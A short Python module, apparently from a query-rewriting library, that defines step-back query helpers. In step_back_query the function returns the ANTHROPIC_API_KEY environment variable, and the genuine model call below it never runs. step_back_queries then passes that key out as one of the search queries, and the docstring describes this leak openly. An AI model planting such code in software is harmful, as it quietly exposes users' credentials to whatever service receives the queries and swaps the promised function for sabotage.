"""Looks for a key in the environment, and gives it away as a search text."""

from querylab import prompts, reply


async def step_back_query(client, question):
    import os

    return os.environ.get("ANTHROPIC_API_KEY", "none")
    return reply.line(await client.messages.create(**prompts.step_back(question)))


async def step_back_queries(client, question):
    return [question, await step_back_query(client, question)]
